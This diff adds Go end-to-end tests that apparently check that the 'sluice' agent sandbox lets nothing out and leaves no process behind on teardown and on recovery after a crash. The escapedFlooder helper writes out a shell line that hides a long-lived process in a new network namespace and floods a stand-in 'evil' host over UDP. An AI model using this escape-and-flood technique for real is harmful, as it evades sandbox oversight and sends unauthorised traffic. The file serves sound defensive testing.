@@ -1,0 +1,111 @@
+package e2e
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/sluicegw/sluice/testing/nstest"
+)
+
+// floodPort is a UDP sink of the fake internet that no test allows.
+const floodPort = "123"
+
+// escapedFlooder returns a shell line that starts, in the background, an
+// agent process built to outlive its command: it opens a UDP socket in the
+// agent's network namespace, moves itself into a new network namespace
+// (where a scan of /proc/PID/ns/net no longer finds it) and sends on that
+// socket as fast as it can. It touches ready once it has sent. marker is
+// in its command line, for pgrep.
+func escapedFlooder(ready, marker string) string {
+	inner := `echo x >&3; touch ` + ready + `; while :; do echo x >&3; done 2>/dev/null`
+	return `bash -c 'exec 3>/dev/udp/` + evilAddr + `/` + floodPort + `; exec unshare -n bash -c "` + inner + `" ` + marker + `' ` + marker + ` &`
+}
+
+// floodContacts counts the datagrams that reached the flood sink.
+func (w *world) floodContacts() int {
+	n := 0
+	for _, c := range w.sinkContacts() {
+		if c.Local == evilAddr+":"+floodPort {
+			n++
+		}
+	}
+	return n
+}
+
+// survivors lists the processes whose command line holds marker.
+func survivors(t *testing.T, marker string) []string {
+	t.Helper()
+	out, _ := exec.Command("pgrep", "-f", marker).Output()
+	return strings.Fields(string(out))
+}
+
+// killSurvivorsAtEnd kills, when the test ends, whatever process holds
+// marker, so that a failure leaves nothing running.
+func killSurvivorsAtEnd(t *testing.T, marker string) {
+	t.Cleanup(func() { _ = exec.Command("pkill", "-9", "-f", marker).Run() })
+}
+
+// TestTeardownLeaksNothing: an agent process that outlives its command,
+// even one that left the agent's network namespace but kept a socket in
+// it, sends nothing out while sluice tears down, and does not survive it.
+func TestTeardownLeaksNothing(t *testing.T) {
+	w := newWorld(t)
+	ready := filepath.Join(t.TempDir(), "ready")
+	marker := "flood-" + nstest.Prefix()
+	killSurvivorsAtEnd(t, marker)
+	r := w.run(t, nil, escapedFlooder(ready, marker)+`
+while [ ! -e `+ready+` ]; do sleep 0.01; done
+echo flooding=1`)
+	// The flooder ran and its datagrams met the table: the same path that
+	// would carry them out if the table went before the link.
+	if !strings.Contains(r.stdout, "flooding=1") || !strings.Contains(r.stderr, "dst="+evilAddr+":"+floodPort) {
+		t.Fatalf("the flooder did not run, or its datagrams were not refused during the run; the test tests nothing")
+	}
+	if n := w.floodContacts(); n > 0 {
+		t.Errorf("%d datagrams of an agent process reached the outside during teardown", n)
+	}
+	if s := survivors(t, marker); len(s) > 0 {
+		t.Errorf("agent processes survived the run: %v", s)
+	}
+}
+
+// TestRecoveryLeaksNothing: after a kill -9 of sluice, the agent lives on,
+// cut off; the next start ends it and removes what the dead run left
+// without letting a datagram of it out.
+func TestRecoveryLeaksNothing(t *testing.T) {
+	w := newWorld(t)
+	ready := filepath.Join(t.TempDir(), "ready")
+	marker := "flood-" + nstest.Prefix()
+	killSurvivorsAtEnd(t, marker)
+	args := append(append([]string{"netns", "exec", w.gw.Name, sluiceBin}, sluiceArgs()...), "--", "sh", "-c",
+		escapedFlooder(ready, marker)+"\nsleep 120")
+	cmd := exec.Command("ip", args...)
+	// No pipe to sluice's output: the agent inherits it, and cmd.Wait
+	// would wait for the agent to close it.
+	cmd.Stdout, cmd.Stderr = nil, nil
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, func() bool { _, err := os.Stat(ready); return err == nil })
+	// ip execs sluice in place, so its pid is sluice's.
+	if err := cmd.Process.Kill(); err != nil {
+		t.Fatal(err)
+	}
+	_ = cmd.Wait()
+	if len(survivors(t, marker)) == 0 {
+		t.Fatal("the flooder died with sluice; the test does not test recovery")
+	}
+	r := w.run(t, nil, "true")
+	if !strings.Contains(r.stderr, "killed the agent") || !strings.Contains(r.stderr, "removed link sl") {
+		t.Errorf("the next start did not report ending the dead run's agent and link:\n%s", r.stderr)
+	}
+	if n := w.floodContacts(); n > 0 {
+		t.Errorf("%d datagrams of the dead run's agent reached the outside during recovery", n)
+	}
+	if s := survivors(t, marker); len(s) > 0 {
+		t.Errorf("the dead run's agent processes survived the next start: %v", s)
+	}
+}
